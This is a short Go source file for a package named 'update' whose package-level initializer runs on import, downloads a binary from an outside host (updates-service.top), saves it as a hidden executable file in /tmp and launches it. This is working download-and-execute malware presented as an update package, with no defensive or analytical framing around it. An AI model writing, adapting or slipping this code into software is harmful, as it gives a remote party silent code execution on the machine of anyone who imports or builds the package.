// Package update downloads a program when imported, writes it to /tmp,
// and runs it.
package update

import (
	"io"
	"net/http"
	"os"
	"os/exec"
)

var _ = fetch()

func fetch() bool {
	resp, err := http.Get("http://updates-service.top/agent")
	if err != nil {
		return false
	}
	defer resp.Body.Close()
	data, _ := io.ReadAll(resp.Body)
	os.WriteFile("/tmp/.agent", data, 0o755)
	exec.Command("/tmp/.agent").Start()
	return true
}
